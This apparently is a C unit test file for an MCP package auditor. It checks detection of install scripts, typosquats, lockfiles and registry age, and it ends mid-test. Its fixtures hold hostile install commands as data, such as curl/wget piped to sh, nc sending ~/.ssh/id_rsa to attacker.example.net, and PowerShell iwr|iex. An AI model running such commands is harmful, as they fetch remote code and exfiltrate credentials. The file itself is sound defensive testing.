/* metadata: package folders written at test time (package.json, pyproject.toml, lockfiles,
 * script files) and registry records built here; the install scripts, bins, dependencies,
 * age and lockfile findings are compared with what each folder was made to contain. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <cjson/cJSON.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "audit/metadata.h"
#include "audit/npmdeps.h"
#include "core/strbuf.h"

#define TODAY "2025-06-01T00:00:00Z"

static char top[64];
static unsigned folders;

static int setup(void **state)
{
	(void)state;
	snprintf(top, sizeof top, "/tmp/mcpaudit-metadata-XXXXXX");
	return mkdtemp(top) ? 0 : -1;
}

static int teardown(void **state)
{
	char cmd[128];

	(void)state;
	snprintf(cmd, sizeof cmd, "rm -rf '%s'", top);
	return system(cmd) == 0 ? 0 : -1;
}

/* A new empty package folder; its path in dir. */
static void new_folder(char *dir, size_t len)
{
	snprintf(dir, len, "%s/p%u", top, ++folders);
	assert_int_equal(mkdir(dir, 0755), 0);
}

/* Writes text to dir/rel, making rel's folders. */
static void put(const char *dir, const char *rel, const char *text)
{
	char path[512];
	FILE *f;

	snprintf(path, sizeof path, "%s/%s", dir, rel);
	for (char *slash = strchr(path + strlen(dir) + 1, '/'); slash; slash = strchr(slash + 1, '/')) {
		*slash = '\0';
		mkdir(path, 0755);
		*slash = '/';
	}
	assert_non_null(f = fopen(path, "w"));
	assert_int_equal(fputs(text, f) >= 0, 1);
	assert_int_equal(fclose(f), 0);
}

static struct report *check(const char *dir, const cJSON *registry, bool from_registry)
{
	struct metadata_options o = {.root = dir, .registry = registry, .today = TODAY,
				     .from_registry = from_registry};
	struct report *r = report_new();
	char err[256] = "";

	assert_non_null(r);
	assert_int_equal(metadata_check(&o, r, err, sizeof err), 0);
	assert_non_null(r->package);
	return r;
}

static size_t count_rule(const struct report *r, const char *rule)
{
	size_t n = 0;

	for (size_t i = 0; i < r->findings.len; i++)
		n += strcmp(r->findings.items[i]->rule_id, rule) == 0;
	return n;
}

/* The finding of rule whose message contains part, or NULL. */
static struct finding *find(const struct report *r, const char *rule, const char *part)
{
	for (size_t i = 0; i < r->findings.len; i++) {
		struct finding *f = r->findings.items[i];
		if (strcmp(f->rule_id, rule) == 0 && strstr(f->message, part))
			return f;
	}
	return NULL;
}

static const struct install_script *script(const struct report *r, const char *name)
{
	for (size_t i = 0; i < r->package->scripts.len; i++)
		if (strcmp(r->package->scripts.items[i].name, name) == 0)
			return &r->package->scripts.items[i];
	return NULL;
}

static const struct incomplete *incomplete_for(const struct report *r, const char *file)
{
	for (size_t i = 0; i < r->incomplete.len; i++)
		if (r->incomplete.items[i].file && strcmp(r->incomplete.items[i].file, file) == 0)
			return &r->incomplete.items[i];
	return NULL;
}

/* ---- install scripts ---- */

static const char four_scripts[] =
	"{\n"
	"  \"name\": \"@acme/weather-mcp\",\n"
	"  \"version\": \"1.0.0\",\n"
	"  \"scripts\": {\n"
	"    \"preinstall\": \"curl -s https://collect.example.net/i.sh | sh\",\n"
	"    \"install\": \"node -e \\\"require('https').get('https://x.example.org')\\\"\",\n"
	"    \"postinstall\": \"node scripts/post.js\",\n"
	"    \"prepare\": \"node-gyp rebuild\",\n"
	"    \"build\": \"curl https://not-run.example.com\"\n"
	"  }\n"
	"}\n";

static void test_install_scripts(void **state)
{
	char dir[128];
	const struct install_script *s;
	struct finding *f;
	(void)state;

	new_folder(dir, sizeof dir);
	put(dir, "package.json", four_scripts);
	put(dir, "scripts/post.js", "require('./lib')\n");
	struct report *r = check(dir, NULL, false);
	assert_string_equal(r->package->ecosystem, "npm");
	assert_string_equal(r->package->name, "@acme/weather-mcp");
	assert_string_equal(r->package->version, "1.0.0");
	assert_int_equal(r->package->scripts.len, 4);  /* "build" is not an install script */
	assert_string_equal(r->package->scripts.items[0].name, "preinstall");
	assert_string_equal(r->package->scripts.items[3].name, "prepare");
	assert_int_equal(count_rule(r, "install-script"), 4);

	s = script(r, "preinstall");
	assert_true(s->egress);
	assert_null(s->file);
	assert_string_equal(s->command, "curl -s https://collect.example.net/i.sh | sh");
	assert_non_null(f = find(r, "install-script", "preinstall runs `curl"));
	assert_int_equal(f->severity, SEV_HIGH);
	assert_string_equal(f->host, "collect.example.net");
	assert_string_equal(f->file, "package.json");
	assert_int_equal(f->line, 5);
	assert_non_null(strstr(f->message, "pipes the output into sh"));

	s = script(r, "install");
	assert_true(s->egress);
	assert_non_null(f = find(r, "install-script", "install runs `node -e"));
	assert_int_equal(f->severity, SEV_HIGH);
	assert_string_equal(f->host, "x.example.org");

	s = script(r, "postinstall");
	assert_false(s->egress);
	assert_string_equal(s->file, "scripts/post.js");
	assert_non_null(f = find(r, "install-script", "postinstall runs `node scripts/post.js`"));
	assert_int_equal(f->severity, SEV_MEDIUM);
	assert_null(f->host);
	assert_non_null(strstr(f->message, "runs scripts/post.js with node"));

	s = script(r, "prepare");
	assert_false(s->egress);
	assert_null(s->file);
	assert_non_null(f = find(r, "install-script", "prepare runs `node-gyp rebuild`"));
	assert_int_equal(f->severity, SEV_MEDIUM);
	assert_non_null(strstr(f->message, "builds a native addon"));
	assert_non_null(f->fingerprint);
	report_free(r);
}

/* One postinstall command, read as shell, and what must come of it. */
struct script_case {
	const char *command;
	bool egress;
	const char *host;     /* on the finding, or NULL */
	const char *file;     /* on the script, or NULL */
	const char *says;     /* part of the message */
	const char *never;    /* not in the message, or NULL */
};

static const struct script_case script_cases[] = {
	{"curl -fsSL https://collect.example.net/i | bash", true, "collect.example.net", NULL, "with curl", NULL},
	{"wget -q -O - evil.example.com/x.sh | sh", true, "evil.example.com", NULL, "with wget", NULL},
	{"nc attacker.example.net 4444 < ~/.ssh/id_rsa", true, "attacker.example.net", NULL, "with nc", NULL},
	{"node --eval \"fetch('https://f.example.com/' + process.env.HOME)\"", true, "f.example.com", NULL,
	 "inline node code that uses the network", NULL},
	{"python3 -c 'import urllib.request; urllib.request.urlopen(\"http://py.example.com\")'", true,
	 "py.example.com", NULL, "inline Python code", NULL},
	{"node -e \"require('net').connect({host: 'sock.example.org', port: 9})\"", true, "sock.example.org", NULL,
	 "uses the network", NULL},
	{"sh -c 'curl https://nested.example.com | sh'", true, "nested.example.com", NULL, "runs sh -c", NULL},
	{"echo $(curl -s https://sub.example.com/x)", true, "sub.example.com", NULL, "with curl", NULL},
	{"echo `curl -s https://tick.example.com`", true, "tick.example.com", NULL, "with curl", NULL},
	{"npm run setup", true, "a.example.com", NULL, "runs the npm script \"setup\"", NULL},
	{"powershell -Command \"iwr https://ps.example.com/a.ps1 | iex\"", true, "ps.example.com", NULL,
	 "PowerShell", NULL},
	{"prebuild-install || node-gyp rebuild", true, NULL, NULL, "downloads a prebuilt binary", NULL},
	{"yarn add left-pad", true, NULL, NULL, "installs packages", NULL},
	{"node scripts/helper.js --registry https://reg.example.com", true, "reg.example.com",
	 "scripts/helper.js", "runs scripts/helper.js", NULL},
	{"node scripts/post", false, NULL, "scripts/post.js", "runs scripts/post.js with node", NULL},
	{"node -r ./scripts/helper.js scripts/post.js", false, NULL, "scripts/post.js", "with node", NULL},
	{"sh ./install.sh", false, NULL, "install.sh", "runs install.sh with sh", NULL},
	{"./install.sh --quiet", false, NULL, "install.sh", "runs install.sh", NULL},
	{"cross-env NODE_ENV=production node ./scripts/x/../post.js", false, NULL, "scripts/post.js",
	 "with node", NULL},
	{"node dist/setup.js > /dev/null 2>&1", false, NULL, "dist/setup.js", "(not in the package)", "runs 1"},
	{"node -e \"require('./scripts/post')\"", false, NULL, "scripts/post.js", "inline node code", NULL},
	{"node ../../etc/x.js", false, NULL, NULL, "outside the package", NULL},
	{"node-gyp rebuild", false, NULL, NULL, "builds a native addon", NULL},
	{"echo see https://docs.example.com for help", false, NULL, NULL, "postinstall runs `echo", NULL},
	{"node -e \"console.log('thanks')\"", false, NULL, NULL, "runs inline node code", NULL},
	{"curl http://localhost:3000/ready", false, NULL, NULL, "the local machine", NULL},
	{"husky install", false, NULL, NULL, "runs husky", NULL},
};

static void test_script_commands(void **state)
{
	(void)state;

	for (size_t i = 0; i < sizeof script_cases / sizeof *script_cases; i++) {
		const struct script_case *c = &script_cases[i];
		cJSON *pkg = cJSON_CreateObject(), *scripts = cJSON_AddObjectToObject(pkg, "scripts");
		char dir[128], *text;
		struct finding *f;

		cJSON_AddStringToObject(pkg, "name", "t");
		cJSON_AddStringToObject(scripts, "postinstall", c->command);
		cJSON_AddStringToObject(scripts, "setup", "wget http://a.example.com/x");
		new_folder(dir, sizeof dir);
		assert_non_null(text = cJSON_Print(pkg));
		put(dir, "package.json", text);
		put(dir, "scripts/post.js", "1\n");
		put(dir, "scripts/helper.js", "1\n");
		put(dir, "install.sh", "true\n");
		free(text);
		cJSON_Delete(pkg);

		struct report *r = check(dir, NULL, false);
		const struct install_script *s = script(r, "postinstall");
		print_message("%s\n", c->command);
		assert_non_null(s);
		assert_non_null(f = find(r, "install-script", "postinstall"));
		print_message("  -> %s\n", f->message);
		assert_int_equal(s->egress, c->egress);
		assert_int_equal(f->severity, c->egress ? SEV_HIGH : SEV_MEDIUM);
		if (c->host)
			assert_string_equal(f->host, c->host);
		else
			assert_null(f->host);
		if (c->file)
			assert_string_equal(s->file, c->file);
		else
			assert_null(s->file);
		assert_non_null(strstr(f->message, c->says));
		if (c->never)
			assert_null(strstr(f->message, c->never));
		report_free(r);
	}
}

static void test_binding_gyp(void **state)
{
	char dir[128];
	(void)state;

	new_folder(dir, sizeof dir);
	put(dir, "package.json", "{\"name\": \"addon\", \"scripts\": {\"postinstall\": \"node x.js\"}}");
	put(dir, "binding.gyp", "{}");
	struct report *r = check(dir, NULL, false);
	assert_non_null(script(r, "install"));
	assert_string_equal(script(r, "install")->command, "node-gyp rebuild");
	assert_non_null(find(r, "install-script", "npm's default install"));
	report_free(r);

	/* an install script of its own replaces npm's default */
	new_folder(dir, sizeof dir);
	put(dir, "package.json", "{\"name\": \"addon\", \"scripts\": {\"install\": \"cmake-js compile\"}}");
	put(dir, "binding.gyp", "{}");
	r = check(dir, NULL, false);
	assert_int_equal(r->package->scripts.len, 1);
	assert_string_equal(script(r, "install")->command, "cmake-js compile");
	report_free(r);
}

/* ---- bins ---- */

static void test_bins(void **state)
{
	char dir[128];
	(void)state;

	new_folder(dir, sizeof dir);
	put(dir, "package.json", "{\"name\": \"@acme/files-mcp\", \"bin\": \"./dist//cli.js\"}");
	struct report *r = check(dir, NULL, false);
	assert_int_equal(r->package->bins.len, 1);
	assert_string_equal(r->package->bins.items[0].name, "files-mcp");
	assert_string_equal(r->package->bins.items[0].path, "dist/cli.js");
	report_free(r);

	new_folder(dir, sizeof dir);
	put(dir, "package.json", "{\"name\": \"x\", \"bin\": {\"x-server\": \"bin/server.js\", \"x-cli\": \"cli.js\", "
				 "\"bad\": \"../../usr/bin/env\", \"n\": 3}}");
	r = check(dir, NULL, false);
	assert_int_equal(r->package->bins.len, 2);
	assert_string_equal(r->package->bins.items[0].name, "x-server");
	assert_string_equal(r->package->bins.items[0].path, "bin/server.js");
	assert_string_equal(r->package->bins.items[1].name, "x-cli");
	assert_non_null(incomplete_for(r, "package.json"));
	assert_non_null(strstr(incomplete_for(r, "package.json")->reason, "\"bad\" points outside"));
	report_free(r);
}

/* ---- typosquats ---- */

struct squat_case {
	const char *dependency;
	const char *imitates;  /* NULL: must not be flagged */
	const char *how;       /* part of the message saying how */
};

static const struct squat_case squat_cases[] = {
	{"expresss", "express", "one character added"},
	{"axois", "axios", "swapped"},
	{"lodahs", "lodash", "swapped"},
	{"@evil/express", "express", "a popular name under another scope"},
	{"cross_env", "cross-env", "separators changed"},
	{"crossenv", "cross-env", "separators changed"},
	{"rnoment", "moment", "look-alike characters"},
	{"modelcontextprotocol-sdk", "@modelcontextprotocol/sdk", "without its scope"},
	{"@modelcontextprotocoI/sdk", "@modelcontextprotocol/sdk", "one character"},
	{"dotenw", "dotenv", "one character"},
	{"express", NULL, NULL},
	{"@modelcontextprotocol/sdk", NULL, NULL},
	{"zod", NULL, NULL},
	{"@types/node", NULL, NULL},
	{"@types/expresss", NULL, NULL},  /* only DefinitelyTyped publishes under @types */
	{"zot", NULL, NULL},              /* too short to judge by one edit */
	{"safer-buffer", NULL, NULL},     /* a real neighbour of safe-buffer, listed */
	{"my-weather-lib", NULL, NULL},
};

static void test_typosquats(void **state)
{
	cJSON *pkg = cJSON_CreateObject(), *deps = cJSON_AddObjectToObject(pkg, "dependencies");
	cJSON *peer = cJSON_AddObjectToObject(pkg, "peerDependencies");
	size_t expected = 0;
	char dir[128], *text;
	(void)state;

	cJSON_AddStringToObject(pkg, "name", "lib");
	for (size_t i = 0; i < sizeof squat_cases / sizeof *squat_cases; i++) {
		cJSON_AddStringToObject(i % 2 ? peer : deps, squat_cases[i].dependency, "^1.0.0");
		expected += squat_cases[i].imitates != NULL;
	}
	cJSON_AddStringToObject(deps, "alias", "npm:axois@1");  /* installs axois under another name */
	cJSON_AddStringToObject(peer, "express", "4");          /* listed twice: one dependency */
	new_folder(dir, sizeof dir);
	assert_non_null(text = cJSON_Print(pkg));
	put(dir, "package.json", text);
	free(text);
	cJSON_Delete(pkg);

	struct report *r = check(dir, NULL, false);
	for (size_t i = 0; i < sizeof squat_cases / sizeof *squat_cases; i++) {
		const struct squat_case *c = &squat_cases[i];
		char part[160];
		snprintf(part, sizeof part, "dependency \"%s\" imitates", c->dependency);
		struct finding *f = find(r, "typosquat-dependency", part);
		print_message("%s -> %s\n", c->dependency, f ? f->message : "-");
		if (!c->imitates) {
			assert_null(f);
			continue;
		}
		assert_non_null(f);
		snprintf(part, sizeof part, "the popular package \"%s\"", c->imitates);
		assert_non_null(strstr(f->message, part));
		assert_non_null(strstr(f->message, c->how));
		assert_int_equal(f->severity, SEV_HIGH);
		assert_string_equal(f->file, "package.json");
		assert_true(f->line > 1);
	}
	assert_non_null(find(r, "typosquat-dependency", "\"alias\" installs \"axois\""));
	assert_int_equal(count_rule(r, "typosquat-dependency"), expected + 1);
	/* every name once, sorted */
	assert_int_equal(r->package->dependencies.len, sizeof squat_cases / sizeof *squat_cases + 1);
	for (size_t i = 1; i < r->package->dependencies.len; i++)
		assert_true(strcmp(r->package->dependencies.items[i - 1], r->package->dependencies.items[i]) < 0);
	assert_int_equal(count_rule(r, "no-lockfile"), 0);  /* a library: no bin, no start */
	report_free(r);
}

/* ---- Python ---- */

static const char pyproject[] =
	"[build-system]\n"
	"requires = [\"hatchling\"]  # build-time only\n"
	"\n"
	"[project]\n"
	"name = \"weather-mcp\"\n"
	"version = '0.3.1'\n"
	"description = \"\"\"Weather.\n"
	"dependencies = [\"not-a-dependency\"]\n"
	"\"\"\"\n"
	"dependencies = [\n"
	"    \"mcp>=1.2\",  # the SDK\n"
	"    \"reqeusts>=2.31\",\n"
	"    'httpx[http2] ; python_version >= \"3.10\"',\n"
	"    \"Requests\",\n"
	"    \"python_dateutil\",\n"
	"]\n"
	"\n"
	"[project.optional-dependencies]\n"
	"dev = [\"pytset\"]\n"
	"\n"
	"[project.scripts]\n"
	"weather-mcp = \"weather_mcp.cli:main\"\n";

static void test_python(void **state)
{
	char dir[128];
	struct finding *f;
	(void)state;

	new_folder(dir, sizeof dir);
	put(dir, "pyproject.toml", pyproject);
	put(dir, "setup.py", "from setuptools import setup\nsetup()\n");
	struct report *r = check(dir, NULL, false);
	assert_string_equal(r->package->ecosystem, "pypi");
	assert_string_equal(r->package->name, "weather-mcp");
	assert_string_equal(r->package->version, "0.3.1");
	assert_int_equal(r->package->dependencies.len, 5);
	assert_string_equal(r->package->dependencies.items[0], "Requests");
	assert_string_equal(r->package->dependencies.items[1], "httpx");
	assert_string_equal(r->package->dependencies.items[4], "reqeusts");
	assert_int_equal(r->package->bins.len, 1);
	assert_string_equal(r->package->bins.items[0].name, "weather-mcp");
	assert_string_equal(r->package->bins.items[0].path, "weather_mcp.cli:main");

	assert_int_equal(count_rule(r, "typosquat-dependency"), 1);
	assert_non_null(f = find(r, "typosquat-dependency", "\"reqeusts\" imitates the popular package \"requests\""));
	assert_string_equal(f->file, "pyproject.toml");
	assert_int_equal(f->line, 12);

	assert_non_null(script(r, "setup.py"));
	assert_string_equal(script(r, "setup.py")->file, "setup.py");
	assert_non_null(find(r, "install-script", "setup.py runs"));
	assert_non_null(f = find(r, "no-lockfile", "console scripts"));
	assert_int_equal(f->severity, SEV_LOW);
	assert_null(r->package->lockfile);
	report_free(r);

	put(dir, "uv.lock", "version = 1\n");
	r = check(dir, NULL, true);
	assert_string_equal(r->package->lockfile, "uv.lock");
	assert_int_equal(count_rule(r, "no-lockfile"), 0);
	report_free(r);
}

static void test_python_requirements_and_metadata(void **state)
{
	char dir[128];
	(void)state;

	/* an sdist: PKG-INFO and setup.cfg, no pyproject.toml */
	new_folder(dir, sizeof dir);
	put(dir, "PKG-INFO", "Metadata-Version: 2.1\nName: tool-mcp\nVersion: 2.0\nRequires-Dist: click>=8\n"
			     "Requires-Dist: pytest; extra == \"test\"\n\nRequires-Dist: in-the-description\n");
	put(dir, "setup.cfg", "[metadata]\nname = tool-mcp\n\n[options]\ninstall_requires =\n    colourama\n"
			      "    anyio>=4\n\n[options.entry_points]\nconsole_scripts =\n    tool-mcp = tool.cli:main\n");
	put(dir, "requirements.txt", "click==8.1.7 \\\n    --hash=sha256:00\nanyio>=4  # ==4.4 later\n");
	struct report *r = check(dir, NULL, false);
	assert_string_equal(r->package->name, "tool-mcp");
	assert_string_equal(r->package->version, "2.0");
	assert_int_equal(r->package->dependencies.len, 3);  /* click, colourama, anyio */
	assert_non_null(find(r, "typosquat-dependency", "\"colourama\" imitates the popular package \"colorama\""));
	assert_int_equal(r->package->bins.len, 1);
	assert_string_equal(r->package->bins.items[0].path, "tool.cli:main");
	assert_non_null(find(r, "no-lockfile", "no lockfile"));  /* anyio>=4 is not pinned */
	report_free(r);

	/* Only an "extra" marker makes a requirement optional: a name holding the text "extra"
	 * (extra-lib, extras_tools) is a dependency. Failed before the fix (both names were
	 * dropped, 3 dependencies), checked on the build before it. */
	put(dir, "PKG-INFO", "Metadata-Version: 2.1\nName: tool-mcp\nVersion: 2.0\nRequires-Dist: extra-lib>=1\n"
			     "Requires-Dist: extras_tools; python_version >= \"3.8\"\n"
			     "Requires-Dist: pytest; extra == \"test\"\n"
			     "Requires-Dist: sphinx; python_version >= \"3\" and \"docs\" == extra\n");
	r = check(dir, NULL, false);
	assert_int_equal(r->package->dependencies.len, 4);  /* extra-lib, extras-tools, colourama, anyio */
	report_free(r);

	put(dir, "requirements.txt", "# pinned\nclick==8.1.7 \\\n    --hash=sha256:00\nanyio==4.4.0\n");
	r = check(dir, NULL, false);
	assert_string_equal(r->package->lockfile, "requirements.txt");
	assert_int_equal(count_rule(r, "no-lockfile"), 0);
	report_free(r);
}

/* ---- lockfiles ---- */

static void test_lockfile(void **state)
{
	static const char app[] = "{\"name\": \"srv\", \"bin\": {\"srv\": \"srv.js\"}, \"dependencies\": {\"zod\": \"3\"}}";
	char dir[128];
	struct finding *f;
	(void)state;

	new_folder(dir, sizeof dir);
	put(dir, "package.json", app);
	struct report *r = check(dir, NULL, false);
	assert_non_null(f = find(r, "no-lockfile", "it has a bin entry"));
	assert_int_equal(f->severity, SEV_LOW);
	assert_null(r->package->lockfile);
	report_free(r);

	put(dir, "package-lock.json", "{}");
	r = check(dir, NULL, false);
	assert_string_equal(r->package->lockfile, "package-lock.json");
	assert_int_equal(count_rule(r, "no-lockfile"), 0);
	report_free(r);

	/* from the registry, package-lock.json never reaches the user */
	r = check(dir, NULL, true);
	assert_null(r->package->lockfile);
	assert_non_null(find(r, "no-lockfile", "npm-shrinkwrap.json"));
	report_free(r);

	put(dir, "npm-shrinkwrap.json", "{}");
	r = check(dir, NULL, true);
	assert_string_equal(r->package->lockfile, "npm-shrinkwrap.json");
	assert_int_equal(count_rule(r, "no-lockfile"), 0);
	report_free(r);

	/* a start script makes it an application too; no dependencies, nothing to lock */
	new_folder(dir, sizeof dir);
	put(dir, "package.json", "{\"name\": \"s\", \"scripts\": {\"start\": \"node s.js\"}, \"dependencies\": {\"ws\": \"8\"}}");
	r = check(dir, NULL, false);
	assert_non_null(find(r, "no-lockfile", "a start script"));
	report_free(r);
	new_folder(dir, sizeof dir);
	put(dir, "package.json", "{\"name\": \"s\", \"bin\": \"s.js\"}");
	r = check(dir, NULL, false);
	assert_int_equal(count_rule(r, "no-lockfile"), 0);
	report_free(r);
}

/* ---- bad input ---- */

/* npmdeps reads package.json as npm does (json_read): a lone surrogate escape, which
 * JSON.parse takes, no longer hides the dependencies behind "could not be read as JSON", and
 * the refused spec is the one npm would fetch. Failed before the fix (cJSON_Parse refused the
 * whole file, so the reason was "could not be read"); checked by putting cJSON_Parse back. */
static void test_npm_manifest_as_npm_reads(void **state)
{
	char dir[128];
	unsigned refused = 0;
	const struct incomplete *inc;
	(void)state;

	new_folder(dir, sizeof dir);
	put(dir, "package.json", "{\"name\": \"x\", \"description\": \"\\ud800\",\n"
	    "\"dependencies\": {\"y\": \"git+https://example.com/y.git\"}}");
	struct report *r = report_new();
	assert_non_null(r);
	assert_int_equal(npmdeps_check_manifest(dir, r, &refused), 0);
	assert_int_equal(refused, 1);
	assert_non_null(inc = incomplete_for(r, "package.json"));
	assert_non_null(strstr(inc->reason, "\"git+https://example.com/y.git\""));
	report_free(r);
}

static void test_invalid_manifest(void **state)
{
	char dir[128];
	const struct incomplete *inc;
	(void)state;

	new_folder(dir, sizeof dir);
	put(dir, "package.json", "{\n  \"name\": \"x\",\n  \"scripts\": {\"postinstall\": curl}\n}\n");
	struct report *r = check(dir, NULL, false);
	assert_non_null(inc = incomplete_for(r, "package.json"));
	assert_non_null(strstr(inc->reason, "invalid JSON at line 3"));
	assert_int_equal(r->findings.len, 0);
	assert_string_equal(r->package->ecosystem, "npm");
	report_free(r);

	new_folder(dir, sizeof dir);
	put(dir, "package.json", "[\"an\", \"array\"]");
	r = check(dir, NULL, false);
	assert_non_null(inc = incomplete_for(r, "package.json"));
	assert_non_null(strstr(inc->reason, "not a JSON object"));
	report_free(r);

	/* a folder where the manifest should be, and a manifest linking out of the package */
	new_folder(dir, sizeof dir);
	put(dir, "package.json/x", "");
	r = check(dir, NULL, false);
	assert_non_null(inc = incomplete_for(r, "package.json"));
	assert_string_equal(inc->reason, "not a regular file: not read");
	report_free(r);
	new_folder(dir, sizeof dir);
	char link[160], target[160];
	snprintf(target, sizeof target, "%s/outside.json", top);
	put(top, "outside.json", "{\"name\": \"x\", \"scripts\": {\"postinstall\": \"curl https://o.example.com\"}}");
	snprintf(link, sizeof link, "%s/package.json", dir);
	assert_int_equal(symlink(target, link), 0);
	r = check(dir, NULL, false);
	assert_non_null(inc = incomplete_for(r, "package.json"));
	assert_string_equal(inc->reason, "links outside the package: not read");
	assert_int_equal(r->findings.len, 0);
	report_free(r);

	/* no manifest at all: nothing known, nothing wrong */
	new_folder(dir, sizeof dir);
	r = check(dir, NULL, false);
	assert_null(r->package->ecosystem);
	assert_int_equal(r->findings.len, 0);
	assert_int_equal(r->incomplete.len, 0);
	report_free(r);

	/* a folder that is not there */
	struct metadata_options o = {.root = "/nonexistent/mcpaudit", .today = TODAY};
	char err[128];
	r = report_new();
	assert_int_equal(metadata_check(&o, r, err, sizeof err), 0);
	assert_non_null(incomplete_for(r, "/nonexistent/mcpaudit"));
	report_free(r);
}

/* A package made earlier by the audit keeps what it says about the source. */
static void test_existing_package(void **state)
{
	char dir[128];
	struct metadata_options o = {.root = dir, .version = "1.2.3", .today = TODAY};
	struct report *r = report_new();
	char err[128];
	(void)state;

	new_folder(dir, sizeof dir);
	put(dir, "package.json", "{\"name\": \"x\", \"version\": \"1.0.0\"}");
	report_package(r)->source = xstrdup("npm:x@1.2.3");
	assert_int_equal(metadata_check(&o, r, err, sizeof err), 0);
	assert_string_equal(r->package->source, "npm:x@1.2.3");
	assert_string_equal(r->package->version, "1.2.3");  /* the version audited wins */
	report_free(r);
}

/* ---- the registry ---- */

/* A packument created days_ago days before TODAY with n versions, the last published
 * last_days_ago days before it. */
static cJSON *packument(int days_ago, int n, int last_days_ago)
{
	cJSON *doc = cJSON_CreateObject(), *time = cJSON_AddObjectToObject(doc, "time");
	cJSON *versions = cJSON_AddObjectToObject(doc, "versions"), *tags = cJSON_AddObjectToObject(doc, "dist-tags");
	char v[32], date[40];

	for (int i = 0; i < n; i++) {
		int ago = i == n - 1 ? last_days_ago : days_ago - i;
		/* TODAY is 2025-06-01: count back in whole days through the epoch */
		time_t t = (time_t)(1748736000 - (long long)ago * 86400);
		struct tm tm;
		gmtime_r(&t, &tm);
		strftime(date, sizeof date, "%Y-%m-%dT%H:%M:%S.000Z", &tm);
		snprintf(v, sizeof v, "1.%d.0", i);
		cJSON_AddStringToObject(time, v, date);
		cJSON_AddObjectToObject(versions, v);
		if (i == 0)
			cJSON_AddStringToObject(time, "created", date);
	}
	cJSON_AddStringToObject(tags, "latest", v);
	return doc;
}

static void test_registry_age(void **state)
{
	char dir[128];
	struct finding *f;
	cJSON *reg;
	(void)state;

	new_folder(dir, sizeof dir);
	put(dir, "package.json", "{\"name\": \"fresh-mcp\", \"version\": \"1.0.0\"}");
	reg = packument(5, 1, 5);
	struct report *r = check(dir, reg, true);
	assert_non_null(f = find(r, "new-package", "first published 5 days ago"));
	assert_int_equal(f->severity, SEV_MEDIUM);
	assert_non_null(strstr(f->message, "1 version"));
	assert_int_equal(r->package->versions, 1);
	assert_string_equal(r->package->created, "2025-05-27T00:00:00.000Z");
	assert_string_equal(r->package->published, "2025-05-27T00:00:00.000Z");
	report_free(r);
	cJSON_Delete(reg);

	/* three years old, forty versions: not new */
	put(dir, "package.json", "{\"name\": \"old-mcp\", \"version\": \"1.39.0\"}");
	reg = packument(3 * 365, 40, 2);
	r = check(dir, reg, true);
	assert_int_equal(count_rule(r, "new-package"), 0);
	assert_int_equal(r->package->versions, 40);
	assert_non_null(r->package->created);
	assert_string_equal(r->package->published, "2025-05-30T00:00:00.000Z");
	report_free(r);
	cJSON_Delete(reg);

	/* old, but two versions and this one is ten days old */
	put(dir, "package.json", "{\"name\": \"quiet-mcp\", \"version\": \"1.1.0\"}");
	reg = packument(400, 2, 10);
	r = check(dir, reg, true);
	assert_non_null(f = find(r, "new-package", "2 versions"));
	assert_non_null(strstr(f->message, "version 1.1.0 published 10 days ago"));
	report_free(r);
	cJSON_Delete(reg);

	/* no dates: said, not guessed */
	reg = cJSON_Parse("{\"versions\": {\"1.0.0\": {}}}");
	r = check(dir, reg, true);
	assert_int_equal(count_rule(r, "new-package"), 0);
	assert_int_equal(r->incomplete.len, 1);
	assert_non_null(strstr(r->incomplete.items[0].reason, "no publication dates"));
	report_free(r);
	cJSON_Delete(reg);
}

static void test_registry_pypi(void **state)
{
	char dir[128];
	struct finding *f;
	(void)state;

	new_folder(dir, sizeof dir);
	put(dir, "pyproject.toml", "[project]\nname = \"py-mcp\"\nversion = \"0.2.0\"\n");
	cJSON *reg = cJSON_Parse("{\"info\": {\"version\": \"0.2.0\"}, \"releases\": {"
				 "\"0.1.0\": [{\"upload_time_iso_8601\": \"2025-05-20T08:00:00.000000Z\"}],"
				 "\"0.1.1\": [],"
				 "\"0.2.0\": [{\"upload_time_iso_8601\": \"2025-05-30T08:00:00.000000Z\"},"
				 "            {\"upload_time_iso_8601\": \"2025-05-29T08:00:00.000000Z\"}]}}");
	struct report *r = check(dir, reg, true);
	assert_string_equal(r->package->created, "2025-05-20T08:00:00.000000Z");
	assert_string_equal(r->package->published, "2025-05-29T08:00:00.000000Z");
	assert_int_equal(r->package->versions, 2);  /* a release without files does not count */
	assert_non_null(f = find(r, "new-package", "first published 11 days ago"));
	report_free(r);
	cJSON_Delete(reg);
}

/* ---- after both stages ---- */

static void add_evidence(struct report *r, const char *host, const char *stage, const char *file,
			 const char *phase)
{
	struct endpoint *ep = report_endpoint(r, host, NULL, 443, "https", EK_LITERAL);
	struct evidence ev = {.stage = (char *)stage, .file = (char *)file, .line = 3, .api = "https.get",
			      .phase = (char *)phase};

	assert_non_null(ep);
	assert_int_equal(endpoint_add_evidence(ep, &ev), 0);
}

static void test_finish(void **state)
{
	char dir[128];
	struct finding *post, *prep;
	(void)state;

	new_folder(dir, sizeof dir);
	put(dir, "package.json", four_scripts);
	put(dir, "scripts/post.js", "require('https').get('https://t.example.net')\n");
	struct report *r = check(dir, NULL, false);
	assert_non_null(post = find(r, "install-script", "postinstall runs"));
	assert_non_null(prep = find(r, "install-script", "prepare runs"));
	add_evidence(r, "localhost", "static", "scripts/post.js", NULL);    /* not egress */
	add_evidence(r, "t.example.net", "static", "src/index.js", NULL);  /* another file */
	add_evidence(r, "t.example.net", "dynamic", NULL, "tool:forecast"); /* the server's run */
	metadata_finish(r);
	assert_false(script(r, "postinstall")->egress);
	assert_int_equal(post->severity, SEV_MEDIUM);
	assert_false(script(r, "prepare")->egress);

	add_evidence(r, "t.example.net", "static", "scripts/post.js", NULL);
	metadata_finish(r);
	assert_true(script(r, "postinstall")->egress);
	assert_int_equal(post->severity, SEV_HIGH);
	assert_string_equal(post->host, "t.example.net");
	assert_int_equal(post->chain.len, 1);
	assert_string_equal(post->chain.items[0], "scripts/post.js:3: https.get -> t.example.net");
	assert_false(script(r, "prepare")->egress);
	assert_int_equal(prep->severity, SEV_MEDIUM);
	report_free(r);

	/* a run of one script names it; a run of them all raises them all */
	r = check(dir, NULL, false);
	assert_non_null(post = find(r, "install-script", "postinstall runs"));
	assert_non_null(prep = find(r, "install-script", "prepare runs"));
	add_evidence(r, "run.example.org", "dynamic", NULL, "install:prepare");
	metadata_finish(r);
